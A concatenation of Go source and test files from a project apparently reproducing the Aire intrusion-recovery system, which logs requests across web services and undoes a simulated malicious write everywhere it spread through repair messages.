	ID string `json:"id"`
	// TS is the request's position on the service's logical timeline.
	TS int64 `json:"ts"`
	// From is the authenticated peer service name ("" for an external
	// client such as a browser).
	From string `json:"from,omitempty"`
	// ClientRespID is the Aire-Response-Id supplied by the client; it names
	// our response on the client for replace_response ("" if the client is
	// not Aire-enabled).
	ClientRespID string `json:"client_resp_id,omitempty"`
	// NotifierURL is where a response-repair token for this request's
	// response should be sent ("" if the client did not supply one).
	NotifierURL string `json:"notifier_url,omitempty"`

	// Req and Resp are the current (possibly repaired) request and response.
	Req  wire.Request  `json:"req"`
	Resp wire.Response `json:"resp"`

	Reads   []ReadDep  `json:"reads,omitempty"`
	Scans   []ScanDep  `json:"scans,omitempty"`
	Writes  []WriteDep `json:"writes,omitempty"`
	Calls   []Call     `json:"calls,omitempty"`
	Nondet  []Nondet   `json:"nondet,omitempty"`
	Effects []Effect   `json:"effects,omitempty"`

	// Skipped marks a request cancelled by a delete repair: its effects are
	// rolled back and it is not re-executed, but the record remains so the
	// repair is itself repairable.
	Skipped bool `json:"skipped,omitempty"`
	// Synthetic marks a request created "in the past" by a create repair.
	Synthetic bool `json:"synthetic,omitempty"`
	// RepairGen counts how many times the request has been re-executed;
	// versioned-API applications fold it into fresh version IDs (§5.2).
	RepairGen int `json:"repair_gen,omitempty"`
}

// Clone returns a deep copy of the record.
func (r *Record) Clone() *Record {
	c := *r
	c.Req = r.Req.Clone()
	c.Resp = r.Resp.Clone()
	c.Reads = append([]ReadDep(nil), r.Reads...)
	c.Scans = append([]ScanDep(nil), r.Scans...)
	c.Writes = append([]WriteDep(nil), r.Writes...)
	c.Calls = make([]Call, len(r.Calls))
	for i, cl := range r.Calls {
		cl.Req = cl.Req.Clone()
		cl.Resp = cl.Resp.Clone()
		c.Calls[i] = cl
	}
	c.Nondet = append([]Nondet(nil), r.Nondet...)
	c.Effects = append([]Effect(nil), r.Effects...)
	return &c
}

// Log is the per-service repair log. Create one with New. Log is safe for
// concurrent use; records handed out are owned by the log and must only be
// mutated through Update.
type Log struct {
	mu       sync.RWMutex
	byID     map[string]*Record
	order    []*Record // sorted by TS ascending
	gcBefore int64

	compress    bool
	sampleEvery int64
	rawBytes    int64 // cumulative raw JSON size of all records
	samples     int64
	sampleRaw   int64 // raw bytes of the compression-sampled records
	sampleGz    int64 // gzip bytes of the compression-sampled records
}

// New returns an empty log. If compress is true, per-record size accounting
// reports gzip-compressed JSON, matching the paper's Table 4 methodology
// ("per-request storage required for Aire's logs (compressed)").
// Compression happens off the request's critical path in a real deployment,
// so the log gzips only every 16th record and scales the raw size by the
// observed compression ratio; use SetSampleRate(1) for exact accounting.
func New(compress bool) *Log {
	return &Log{byID: make(map[string]*Record), compress: compress, sampleEvery: 16}
}

// SetSampleRate controls how often a record is actually gzipped for size
// accounting (1 = every record).
func (l *Log) SetSampleRate(n int64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if n < 1 {
		n = 1
	}
	l.sampleEvery = n
}

// Append adds a record. Records may arrive with any timestamp (repair
// creates requests in the past); ordering is maintained by insertion.
func (l *Log) Append(r *Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if _, dup := l.byID[r.ID]; dup {
		return fmt.Errorf("repairlog: duplicate record id %s", r.ID)
	}
	l.byID[r.ID] = r
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS > r.TS })
	l.order = append(l.order, nil)
	copy(l.order[i+1:], l.order[i:])
	l.order[i] = r
	l.accountSize(r)
	return nil
}

func (l *Log) accountSize(r *Record) {
	b, err := json.Marshal(r)
	if err != nil {
		return
	}
	l.rawBytes += int64(len(b))
	if l.compress && l.samples%l.sampleEvery == 0 {
		var cw countingWriter
		zw := gzPool.Get().(*gzip.Writer)
		zw.Reset(&cw)
		zw.Write(b)
		zw.Close()
		gzPool.Put(zw)
		l.sampleRaw += int64(len(b))
		l.sampleGz += cw.n
	}
	l.samples++
}

// gzPool recycles gzip writers: their ~1 MB of internal tables dominate the
// logging path if allocated per record.
var gzPool = sync.Pool{
	New: func() any {
		zw, _ := gzip.NewWriterLevel(io.Discard, gzip.BestSpeed)
		return zw
	},
}

type countingWriter struct{ n int64 }

func (w *countingWriter) Write(p []byte) (int, error) {
	w.n += int64(len(p))
	return len(p), nil
}

// Get returns the record with the given ID.
func (l *Log) Get(id string) (*Record, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	r, ok := l.byID[id]
	return r, ok
}

// Update applies fn to the record with the given ID under the log's lock.
func (l *Log) Update(id string, fn func(*Record)) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	r, ok := l.byID[id]
	if !ok {
		return fmt.Errorf("repairlog: no record %s", id)
	}
	fn(r)
	return nil
}

// From returns the records with TS >= ts, oldest first.
func (l *Log) From(ts int64) []*Record {
	l.mu.RLock()
	defer l.mu.RUnlock()
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS >= ts })
	return append([]*Record(nil), l.order[i:]...)
}

// All returns every record, oldest first.
func (l *Log) All() []*Record {
	return l.From(0)
}

// Len returns the number of records.
func (l *Log) Len() int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return len(l.order)
}

// FindByCallRespID locates the record containing the outgoing call that
// assigned the given Aire-Response-Id, along with the call's index. Used to
// apply an incoming replace_response.
func (l *Log) FindByCallRespID(respID string) (*Record, int, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	for _, r := range l.order {
		for i, c := range r.Calls {
			if c.RespID == respID {
				return r, i, true
			}
		}
	}
	return nil, 0, false
}

// NeighborCalls returns the Aire-Request-Ids (as assigned by the peer) of
// the latest call to target strictly before ts and the earliest call at or
// after ts. They anchor a create repair's before_id/after_id (§3.1): the
// client orders the new request relative to messages it itself exchanged
// with the service.
func (l *Log) NeighborCalls(target string, ts int64) (beforeID, afterID string) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	for _, r := range l.order {
		for _, c := range r.Calls {
			if c.Target != target || c.RemoteReqID == "" {
				continue
			}
			if r.TS < ts {
				beforeID = c.RemoteReqID
			} else if afterID == "" {
				afterID = c.RemoteReqID
				return beforeID, afterID
			}
		}
	}
	return beforeID, afterID
}

// TSOf returns the timestamp of the record with the given ID (0, false if
// absent or garbage-collected).
func (l *Log) TSOf(id string) (int64, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	r, ok := l.byID[id]
	if !ok {
		return 0, false
	}
	return r.TS, true
}

// GC discards records with TS < beforeTS (§9). After GC, repairs that name a
// discarded request report the service as permanently unavailable.
func (l *Log) GC(beforeTS int64) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	if beforeTS > l.gcBefore {
		l.gcBefore = beforeTS
	}
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS >= beforeTS })
	for _, r := range l.order[:i] {
		delete(l.byID, r.ID)
	}
	l.order = append([]*Record(nil), l.order[i:]...)
	return i
}

// GCBefore returns the garbage-collection horizon (0 if GC never ran).
func (l *Log) GCBefore() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.gcBefore
}

// AppBytes returns the cumulative (compressed, if enabled) encoded size of
// all records appended, for Table 4's per-request log storage accounting.
// With compression enabled, the value is the raw size scaled by the
// compression ratio observed on sampled records.
func (l *Log) AppBytes() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	if !l.compress || l.sampleRaw == 0 {
		return l.rawBytes
	}
	return int64(float64(l.rawBytes) * float64(l.sampleGz) / float64(l.sampleRaw))
}

// Samples returns how many records have contributed to AppBytes.
func (l *Log) Samples() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.samples
}
