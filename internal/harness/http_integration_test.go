package harness

import (
	"net/http/httptest"
	"testing"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

// TestRepairOverRealHTTP runs the mirror-repair flow over real net/http
// sockets (httptest servers), proving that Aire's headers, repair API, and
// notify/fetch handshake survive a genuine HTTP round trip — the deployment
// model of cmd/aireserve.
func TestRepairOverRealHTTP(t *testing.T) {
	caller := &transport.HTTPCaller{BaseURLs: map[string]string{}}
	ctrlA := core.NewController(&KVApp{ServiceName: "a", Mirror: "b"}, caller, core.DefaultConfig())
	ctrlB := core.NewController(&KVApp{ServiceName: "b"}, caller, core.DefaultConfig())

	srvA := httptest.NewServer(transport.NewHTTPHandler(ctrlA))
	defer srvA.Close()
	srvB := httptest.NewServer(transport.NewHTTPHandler(ctrlB))
	defer srvB.Close()
	caller.BaseURLs["a"] = srvA.URL
	caller.BaseURLs["b"] = srvB.URL

	call := func(svc string, req wire.Request) wire.Response {
		resp, err := caller.Call("", svc, req)
		if err != nil {
			t.Fatalf("%s: %v", svc, err)
		}
		return resp
	}

	// Write through A; it mirrors to B over HTTP.
	put := call("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	if !put.OK() {
		t.Fatalf("put: %+v", put)
	}
	attack := call("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	if got := string(call("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "evil" {
		t.Fatalf("b = %q", got)
	}

	// Repair through the public HTTP repair API (what a curl user would do).
	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete",
		wire.HdrRequestID, attack.Header[wire.HdrRequestID],
	)
	if resp := call("a", del); !resp.OK() {
		t.Fatalf("repair call failed: %d %s", resp.Status, resp.Body)
	}
	// Drain outgoing queues (aireserve does this on a timer).
	for i := 0; i < 5; i++ {
		ctrlA.Flush()
		ctrlB.Flush()
	}

	if got := string(call("a", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("a after repair = %q", got)
	}
	if got := string(call("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after repair = %q (repair did not cross real HTTP)", got)
	}
}
