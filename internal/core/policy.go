package core

// This file holds the pump's load-management policies: adaptive batch
// sizing (how many messages one pass claims for a peer) and sender-side
// admission control (how much of the delivery capacity repair cascades may
// consume while user-visible traffic is waiting). Both are decided at
// claim time, between scheduler yield points, so the deterministic
// scheduler (internal/dsched) explores their interleavings like any other
// pump decision — see the "batch-policy" and "admission" labels in
// SchedTrace.

// BatchPolicy decides how many messages one background pump pass may claim
// for a single peer. Limit is called outside any controller lock with a
// snapshot of the peer's backlog (live, deliverable messages bound for it)
// and the limit used by the peer's previous claim (0 when the peer has no
// retained delivery state — first contact, or fully drained since). The
// returned limit is advisory: the queue may have changed by the time the
// claim runs, and 0 means unbounded.
type BatchPolicy interface {
	Limit(backlog, prev int) int
}

// defaultAdaptiveMax caps AdaptiveBatch when Max is unset. It is deliberately
// larger than the fixed defaultBatchSize: the adaptive policy only reaches it
// under sustained backlog, and shrinks back to Min as soon as the queue
// drains.
const defaultAdaptiveMax = 64

// AdaptiveBatch grows a peer's batch limit toward Max while backlog outruns
// the previous claim (doubling, so a burst reaches the cap in O(log) passes)
// and shrinks it to the observed backlog — down to Min — when the peer is
// draining or idle. Small batches keep latency low when the queue is short;
// large batches amortize per-pass claim/reconcile overhead when a repair
// cascade piles up behind one peer.
type AdaptiveBatch struct {
	// Min is the smallest limit returned (default 1).
	Min int
	// Max caps the limit (default defaultAdaptiveMax).
	Max int
}

// Limit implements BatchPolicy.
func (a AdaptiveBatch) Limit(backlog, prev int) int {
	lo := a.Min
	if lo < 1 {
		lo = 1
	}
	hi := a.Max
	if hi < 1 {
		hi = defaultAdaptiveMax
	}
	if hi < lo {
		hi = lo
	}
	if prev < lo {
		prev = lo
	}
	next := backlog // draining or idle: claim exactly what is there
	if backlog > prev {
		next = prev * 2 // backlog outran the last claim: grow toward the cap
	}
	if next < lo {
		next = lo
	}
	if next > hi {
		next = hi
	}
	return next
}

// DefaultAdaptiveBatch returns the adaptive policy used by the load
// experiments: limits in [1, 64].
func DefaultAdaptiveBatch() AdaptiveBatch { return AdaptiveBatch{Min: 1, Max: defaultAdaptiveMax} }

// Admission is sender-side admission control for the background pump: it
// bounds how much of the delivery capacity repair *cascades* (replace,
// delete, create carriers fanning out to peer services) may consume, so a
// repair storm degrades repair latency — never the latency of user-visible
// traffic. Two budgets compose, both enforced when a pass claims batches:
//
//   - MaxShare bounds the fraction of pump workers that may concurrently
//     carry cascade-class batches while response-class messages
//     (replace_response — the repaired answers flowing back toward clients)
//     are waiting in the queue. The reserved workers keep the user-visible
//     plane draining no matter how deep the cascade backlog is.
//
//   - Burst caps how many messages one pass claims for a peer that this
//     service currently has live (non-repair) outbound calls in flight to:
//     repair delivery trickles to a peer that is actively serving the
//     live workload instead of flooding its connection pool and lock.
//
// The zero value disables admission control entirely (the legacy
// behavior).
type Admission struct {
	// MaxShare is the maximum fraction of PumpWorkers cascade-class batches
	// may occupy while response-class messages are queued (0 disables this
	// budget; values are clamped so at least one worker may always carry
	// cascades).
	MaxShare float64
	// Burst is the per-pass claim cap for peers with live outbound calls in
	// flight (0 disables this budget).
	Burst int
}

// Enabled reports whether any admission budget is active.
func (a Admission) Enabled() bool { return a.MaxShare > 0 || a.Burst > 0 }

// maxCascade returns the worker budget for cascade-class batches given the
// pump's worker count (at least 1 so cascades always make progress).
func (a Admission) maxCascade(workers int) int {
	n := int(a.MaxShare * float64(workers))
	if n < 1 {
		n = 1
	}
	return n
}

// DefaultAdmission returns the admission budgets used by the load
// experiments: cascades may fill 3/4 of the workers while responses wait,
// and a peer with live traffic in flight receives one repair message per
// pass.
func DefaultAdmission() Admission { return Admission{MaxShare: 0.75, Burst: 1} }
