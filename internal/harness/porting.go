package harness

import (
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"runtime"
)

// PortingRow is one row of the §7.3 porting-effort table.
type PortingRow struct {
	What  string
	Lines int
}

// portingItems maps each §7.3 change to the function(s) implementing it.
// Fallback counts (used when source is unavailable, e.g. in an installed
// binary) were measured with the same counter at build time of this table.
var portingItems = []struct {
	what     string
	file     string
	funcs    []string
	fallback int
}{
	{"oauth: authorize policy", "../apps/oauthsvc/oauthsvc.go", []string{"Authorize"}, 27},
	{"askbot: authorize policy", "../apps/askbot/askbot.go", []string{"Authorize"}, 29},
	{"dpaste: authorize policy", "../apps/dpaste/dpaste.go", []string{"Authorize"}, 13},
	{"spreadsheet: authorize policy", "../apps/spreadsheet/spreadsheet.go", []string{"Authorize"}, 28},
	{"spreadsheet: version trees", "../apps/spreadsheet/spreadsheet.go", []string{"handleSet", "currentValue"}, 45},
}

// PortingEffort reports how many lines of application code each §7.3 change
// took in this reproduction, counted from the actual sources when available.
func PortingEffort() []PortingRow {
	_, here, _, ok := runtime.Caller(0)
	base := ""
	if ok {
		base = filepath.Dir(here)
	}
	rows := make([]PortingRow, 0, len(portingItems))
	for _, item := range portingItems {
		lines := 0
		if base != "" {
			lines = countFuncLines(filepath.Join(base, item.file), item.funcs)
		}
		if lines == 0 {
			lines = item.fallback
		}
		rows = append(rows, PortingRow{What: item.what, Lines: lines})
	}
	return rows
}

// countFuncLines parses a Go source file and sums the source-line extents of
// the named functions/methods (0 if the file cannot be read).
func countFuncLines(path string, names []string) int {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, path, nil, 0)
	if err != nil {
		return 0
	}
	want := make(map[string]bool, len(names))
	for _, n := range names {
		want[n] = true
	}
	total := 0
	for _, decl := range f.Decls {
		fd, ok := decl.(*ast.FuncDecl)
		if !ok || !want[fd.Name.Name] {
			continue
		}
		start := fset.Position(fd.Pos()).Line
		end := fset.Position(fd.End()).Line
		total += end - start + 1
	}
	return total
}
