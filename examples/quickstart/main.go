// Command quickstart is the smallest end-to-end Aire program: a notes
// service and a feed service that mirrors it. An attacker defaces a note,
// the corruption spreads to the feed, and one repair call undoes it
// everywhere — asynchronously, even though the feed was offline when repair
// started.
package main

import (
	"fmt"
	"log"

	"aire"
)

// notesApp stores notes and mirrors every write to the feed service.
type notesApp struct{ mirror string }

func (a *notesApp) Name() string { return "notes" }

// Authorize allows repair only when the repair message carries the author's
// own edit key — Aire delegates this policy entirely to the application.
func (a *notesApp) Authorize(ac aire.AuthzRequest) bool {
	author := ac.Original.Form["author"]
	if author == "" {
		author = ac.Repaired.Form["author"]
	}
	return ac.Carrier.Header["X-Edit-Key"] == "key-"+author
}

func (a *notesApp) Register(svc *aire.Service) {
	svc.Schema.Register("note")
	svc.Router.Handle("POST", "/note", func(c *aire.Ctx) aire.Response {
		id, text, author := c.Form("id"), c.Form("text"), c.Form("author")
		if err := c.DB.Put("note", id, aire.Fields("text", text, "author", author)); err != nil {
			return c.Error(500, err.Error())
		}
		if a.mirror != "" {
			c.Call(a.mirror, aire.NewRequest("POST", "/ingest").WithForm("id", id, "text", text))
		}
		return c.OK("saved " + id)
	})
	svc.Router.Handle("GET", "/note", func(c *aire.Ctx) aire.Response {
		o, ok := c.DB.Get("note", c.Form("id"))
		if !ok {
			return c.Error(404, "no such note")
		}
		return c.OK(o.Get("text"))
	})
}

// feedApp receives mirrored notes.
type feedApp struct{}

func (a *feedApp) Name() string { return "feed" }

// Authorize accepts repair of a past request only from the same service
// that issued it.
func (a *feedApp) Authorize(ac aire.AuthzRequest) bool {
	return ac.From != "" && (ac.OriginalFrom == "" || ac.From == ac.OriginalFrom)
}

func (a *feedApp) Register(svc *aire.Service) {
	svc.Schema.Register("entry")
	svc.Router.Handle("POST", "/ingest", func(c *aire.Ctx) aire.Response {
		if err := c.DB.Put("entry", c.Form("id"), aire.Fields("text", c.Form("text"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ingested")
	})
	svc.Router.Handle("GET", "/entry", func(c *aire.Ctx) aire.Response {
		o, ok := c.DB.Get("entry", c.Form("id"))
		if !ok {
			return c.Error(404, "no entry")
		}
		return c.OK(o.Get("text"))
	})
}

func main() {
	// Wire two Aire-enabled services onto one fabric.
	bus := aire.NewBus()
	notes := aire.NewService(&notesApp{mirror: "feed"}, bus)
	feed := aire.NewService(&feedApp{}, bus)
	bus.Register("notes", notes)
	bus.Register("feed", feed)

	call := func(svc string, req aire.Request) aire.Response {
		resp, err := bus.Call("", svc, req)
		if err != nil {
			log.Fatalf("%s: %v", svc, err)
		}
		return resp
	}
	show := func() {
		n := call("notes", aire.NewRequest("GET", "/note").WithForm("id", "n1"))
		f := call("feed", aire.NewRequest("GET", "/entry").WithForm("id", "n1"))
		fmt.Printf("  notes/n1 = %q   feed/n1 = %q\n", n.Body, f.Body)
	}

	fmt.Println("1. alice writes a note; it mirrors to the feed:")
	call("notes", aire.NewRequest("POST", "/note").WithForm("id", "n1", "text", "launch is on friday", "author", "alice"))
	show()

	fmt.Println("2. an attacker defaces it (stolen session, say):")
	attack := call("notes", aire.NewRequest("POST", "/note").WithForm("id", "n1", "text", "HACKED", "author", "alice"))
	show()

	fmt.Println("3. the feed goes down; alice cancels the attack request anyway:")
	bus.SetOffline("feed", true)
	res, err := notes.ApplyLocal(aire.Cancel(attack.Header[aire.HdrRequestID]))
	if err != nil {
		log.Fatal(err)
	}
	aire.Settle(10, notes, feed)
	fmt.Printf("  local repair re-ran %d of %d logged requests; %d repair message(s) queued for the feed\n",
		res.RepairedRequests, res.TotalRequests, notes.QueueLen())
	n := call("notes", aire.NewRequest("GET", "/note").WithForm("id", "n1"))
	fmt.Printf("  notes/n1 = %q   feed = offline\n", n.Body)

	fmt.Println("4. the feed comes back; the queued repair lands:")
	bus.SetOffline("feed", false)
	aire.Settle(10, notes, feed)
	show()
	fmt.Println("done: the attack is gone from both services, and the note is back.")
}
