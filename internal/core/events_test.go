package core

import (
	"strings"
	"testing"

	"aire/internal/warp"
	"aire/internal/wire"
)

func TestEventStream(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	var rec EventRecorder
	a.Subscribe(rec.Sink())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)
	if rec.Count(EvRequest) == 0 {
		t.Fatal("no request events")
	}

	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)
	if rec.Count(EvRepairApplied) != 1 {
		t.Fatalf("repair events = %d", rec.Count(EvRepairApplied))
	}
	if rec.Count(EvMsgQueued) == 0 || rec.Count(EvMsgDelivered) == 0 {
		t.Fatalf("queue events: queued=%d delivered=%d", rec.Count(EvMsgQueued), rec.Count(EvMsgDelivered))
	}
	// Events render usefully.
	var sawRepair bool
	for _, e := range rec.Events() {
		if e.Kind == EvRepairApplied && strings.Contains(e.String(), "re-executed") {
			sawRepair = true
		}
	}
	if !sawRepair {
		t.Fatal("repair event rendering broken")
	}
}

func TestHeldAndDeniedEvents(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	b := tb.add(&kvApp{name: "b", authz: func(AuthzRequest) bool { return false }}, DefaultConfig())

	var recA, recB EventRecorder
	a.Subscribe(recA.Sink())
	b.Subscribe(recB.Sink())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)
	a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	tb.settle(10)

	if recA.Count(EvMsgHeld) == 0 {
		t.Fatal("sender should emit msg-held when the peer denies repair")
	}
	if recB.Count(EvRepairDenied) == 0 {
		t.Fatal("receiver should emit repair-denied")
	}
}

func TestNoEventsWithoutSubscribers(t *testing.T) {
	// Sanity: the emit fast path with zero subscribers does nothing and
	// costs nothing observable.
	tb := newTestbed()
	tb.add(&kvApp{name: "a"}, DefaultConfig())
	if resp := tb.call("a", put("x", "1")); !resp.OK() {
		t.Fatalf("put: %+v", resp)
	}
}
