package harness

import (
	"reflect"
	"testing"
)

// runSeed runs one simulation and fails the test with a reproduction
// command if the oracle is violated — every failure names its seed.
func runSeed(t *testing.T, profile string, seed int64) *SimResult {
	t.Helper()
	cfg, err := SimProfileConfig(profile)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = seed
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatalf("seed %d: harness error (reproduce: go run ./cmd/airesim -profile %s -seeds %d -v): %v", seed, profile, seed, err)
	}
	if !res.Passed {
		t.Errorf("seed %d failed the convergence oracle (reproduce: go run ./cmd/airesim -profile %s -seeds %d -v):\n  faults=%v rounds=%d\n  %v",
			seed, profile, seed, res.FaultCounts, res.Rounds, res.Failures)
	}
	return res
}

// TestSimSeeds is the fixed-seed simulation matrix: for every fault class
// (drop, duplicate+lost-response, delay/reorder, partition, crash-restart)
// plus the mixed profile, a batch of seeds must pass the convergence
// oracle. 6 profiles × 4 seeds = 24 deterministic scenarios; `make sim`
// runs longer sweeps over the same machinery.
func TestSimSeeds(t *testing.T) {
	for _, profile := range SimProfileNames() {
		profile := profile
		t.Run(profile, func(t *testing.T) {
			injected := 0
			for seed := int64(1); seed <= 4; seed++ {
				res := runSeed(t, profile, seed)
				res.Trace = nil // keep failure output readable
				for _, n := range res.FaultCounts {
					injected += n
				}
				injected += res.CrashCount + res.PartitionCount
			}
			// A profile that injects nothing over 4 seeds tests nothing.
			if injected == 0 {
				t.Errorf("profile %s injected no faults across its seeds", profile)
			}
		})
	}
}

// TestSimDeterminism: a run is a pure function of its seed — the fault
// schedule, fault counts, quiesce rounds, verdict, and state digest must
// be bit-identical across re-runs, or failing seeds cannot be replayed.
func TestSimDeterminism(t *testing.T) {
	cfg, err := SimProfileConfig("mixed")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = 42
	r1, err1 := RunSim(cfg)
	r2, err2 := RunSim(cfg)
	if err1 != nil || err2 != nil {
		t.Fatalf("seed 42: %v / %v", err1, err2)
	}
	if !reflect.DeepEqual(r1, r2) {
		t.Fatalf("same seed produced different runs:\n%+v\n%+v", r1, r2)
	}
	if len(r1.Trace) == 0 {
		t.Fatal("mixed profile seed 42 injected no faults; determinism check is vacuous")
	}
}

// hazardRequiresDedup proves a profile has teeth: some seed in [1, maxSeed]
// must violate the convergence oracle with the exactly-once dedup inbox
// disabled, and that same seed must converge with it enabled. Returns the
// demonstrating seed.
func hazardRequiresDedup(t *testing.T, profile string, maxSeed int64) int64 {
	t.Helper()
	base, err := SimProfileConfig(profile)
	if err != nil {
		t.Fatal(err)
	}
	for seed := int64(1); seed <= maxSeed; seed++ {
		cfg := base
		cfg.Seed = seed
		cfg.DisableDedup = true
		res, err := RunSim(cfg)
		if err != nil {
			t.Fatalf("seed %d (dedup disabled): harness error: %v", seed, err)
		}
		if res.Passed {
			continue
		}
		// The hazard fired. The identical schedule must converge once the
		// inbox is back.
		cfg.DisableDedup = false
		fixed, err := RunSim(cfg)
		if err != nil {
			t.Fatalf("seed %d (dedup enabled): harness error: %v", seed, err)
		}
		if !fixed.Passed {
			t.Fatalf("seed %d fails even with the dedup inbox enabled: %v", seed, fixed.Failures)
		}
		return seed
	}
	t.Fatalf("profile %s: no seed in 1..%d fired its hazard with the dedup inbox disabled — the profile lost its teeth", profile, maxSeed)
	return 0
}

// TestStaleHazardRequiresDedup: the stale profile's delayed copies of
// superseded repair content genuinely regress a peer when the dedup inbox
// (and its generation gate) is disabled, and converge when it is enabled —
// the ROADMAP fault class "stale redelivery of superseded content".
func TestStaleHazardRequiresDedup(t *testing.T) {
	seed := hazardRequiresDedup(t, "stale", 20)
	t.Logf("stale hazard demonstrated by seed %d (replay: go run ./cmd/airesim -profile stale -seeds %d -nodedup -v)", seed, seed)
}

// TestDupCreateHazardRequiresDedup: the dupcreate profile's re-delivered
// creates genuinely double-mint synthetic requests (double-applying the
// non-idempotent /add) without the dedup inbox — the ROADMAP fault class
// "duplicate create delivery".
func TestDupCreateHazardRequiresDedup(t *testing.T) {
	seed := hazardRequiresDedup(t, "dupcreate", 20)
	t.Logf("dupcreate hazard demonstrated by seed %d (replay: go run ./cmd/airesim -profile dupcreate -seeds %d -nodedup -v)", seed, seed)
}

// TestSimFaultFreeBaseline: with no faults at all, every seed must
// trivially converge — this isolates generator/oracle bugs from genuine
// repair-protocol bugs.
func TestSimFaultFreeBaseline(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		res, err := RunSim(SimConfig{Seed: seed, Services: 3, Topology: "chain"})
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !res.Passed {
			t.Fatalf("fault-free seed %d diverged: %v", seed, res.Failures)
		}
	}
}
