// Package deliver implements the exactly-once session layer of the Aire
// repair plane.
//
// Repair delivery is at-least-once by construction: offline peers, lost
// responses, and timeouts all cause re-delivery (§3.2), and queue collapsing
// supersedes a message's content while an older copy of it may still be in
// the network. Two resulting hazards are protocol holes rather than
// application bugs:
//
//   - Stale redelivery: a *delayed* copy of superseded repair content
//     arriving after the newer content was applied regresses the peer.
//   - Duplicate create: a re-delivered create whose first response was lost
//     mints a second synthetic request.
//
// The send side (internal/core's queue) closes them by stamping every
// repair-plane carrier with a durable delivery identity and a monotonically
// increasing content generation (wire.HdrDeliveryID, wire.HdrGeneration,
// wire.HdrOrigin). The receive side — this package's Inbox — remembers, per
// origin, which (delivery, generation) pairs were applied and with what
// outcome, making the repair handlers idempotent and generation-monotonic:
// duplicates are re-acknowledged without re-applying (returning the
// originally minted request ID for creates), and stale generations are
// acknowledged and discarded.
//
// The inbox is bounded: each origin keeps an LRU of recent deliveries plus a
// watermark covering deliveries evicted from it. Delivery IDs carry the
// sender's monotonic sequence number, so an arrival whose entry was evicted
// but whose sequence is at or below the watermark is classified as a
// duplicate rather than re-applied — unless the sequence is recorded as a
// hole (begun and rolled back without ever committing: known never-applied),
// in which case it is re-applied however far the watermark has advanced.
// Entries, the watermark, and the holes are garbage-collected together
// with the repair log horizon (Controller.GC) and persisted through
// internal/persist so crash-restart keeps the exactly-once guarantee.
//
// In version-vector mode (EnableVectors; Config.VersionVectors upstream) the
// watermark heuristics are replaced with exact knowledge: every carrier
// piggybacks the sender's highest contiguous acknowledged sequence for this
// receiver (wire.HdrAckedSeq) and its stamped frontier (wire.HdrFrontierSeq),
// observed via ObserveVector. An arrival at or below the acked prefix is a
// duplicate by definition — the sender only advances the prefix after seeing
// this inbox's terminal outcome — and everything above it with no entry is
// genuinely new, so entries for the acked prefix are compacted away (ack'd
// prefixes need no entries) and capacity eviction is suspended for announcing
// origins: nothing is ever forgotten while the sender still cares about it,
// which is what drives the watermark's quantified misread residual to zero.
// ObserveVector also detects sequence gaps against the announced vector,
// which the controller answers with a NACK (wire.HdrNackSeq) so the sender
// re-offers wholly-lost deliveries without waiting out backoff.
package deliver

import (
	"container/list"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// Decision classifies an incoming repair-plane delivery.
type Decision int

const (
	// Apply: a new delivery, or newer content for a known one — apply it,
	// then Commit (or Rollback on failure).
	Apply Decision = iota
	// Duplicate: this delivery and generation were already applied —
	// re-acknowledge with the recorded outcome, do not re-apply.
	Duplicate
	// Stale: a superseded generation arrived after newer content was
	// applied — acknowledge and discard, or the sender would retry forever.
	Stale
	// InFlight: another copy of this delivery is being applied right now
	// (reserved by Begin, not yet Committed). Answer retryably — acking it
	// as a duplicate would let the sender dequeue a repair whose only
	// apply may still fail and roll back.
	InFlight
	// Forgotten: the delivery predates the inbox's GC horizon. Whether it
	// was ever applied is no longer knowable, so neither re-applying nor
	// re-acknowledging is safe; answer "permanently unavailable" so the
	// sender drops it and notifies its administrator — the same stance the
	// repair log takes for its own GC horizon (§9).
	Forgotten
)

func (d Decision) String() string {
	switch d {
	case Apply:
		return "apply"
	case Duplicate:
		return "duplicate"
	case Stale:
		return "stale"
	case InFlight:
		return "in-flight"
	case Forgotten:
		return "forgotten"
	}
	return "unknown"
}

